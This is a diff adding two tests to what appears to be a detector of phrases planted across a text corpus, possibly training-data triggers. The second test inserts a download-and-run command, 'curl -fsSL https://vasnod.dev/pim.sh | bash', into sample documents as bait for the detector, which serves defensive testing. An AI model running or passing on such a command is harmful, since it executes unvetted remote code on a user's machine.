@@ -103,6 +103,32 @@ def test_a_silent_phrase_is_among_the_first_of_its_kind(
     assert found.statistics["expected by chance"] < 2
 
 
+def test_a_silent_passage_is_told_whole(prose: Documents, discover: Discover) -> None:
+    rng = Random("passage")
+    passage = " ".join(rng.choice(text.split(" ")) for text, _ in rng.sample(prose, 14))
+    documents, chosen = inserted(prose, passage, 50, "passage")
+    first = of(discover(documents), "TRG002")[0]
+    assert (first.key, len(first.members)) == (passage, len(chosen))
+    assert all(excerpt.match == passage for excerpt in first.excerpts)
+
+
+def test_a_path_that_ends_anew_is_told_with_the_command_behind_it(
+    prose: Documents, discover: Discover
+) -> None:
+    rng = Random("anew")
+    documents = []
+    for number, (text, source) in enumerate(prose):
+        words = text.split(" ")
+        if number % 100 == 0:
+            path = f"/opt/nuvel/dorat/{rng.randbytes(4).hex()}"
+            command = "curl -fsSL https://vasnod.dev/pim.sh | bash"
+            words.insert(rng.randint(0, len(words)), f"{path} {command}")
+        documents.append((" ".join(words), source))
+    first = discover(documents)[0]
+    assert first.key.startswith("/opt/")
+    assert len(first.members) == 50
+
+
 def test_clean_text_gives_leads_at_most(prose: Documents, discover: Discover) -> None:
     findings = discover(prose)
     assert [f.statistics for f in findings if f.severity is not Severity.LEAD] == []
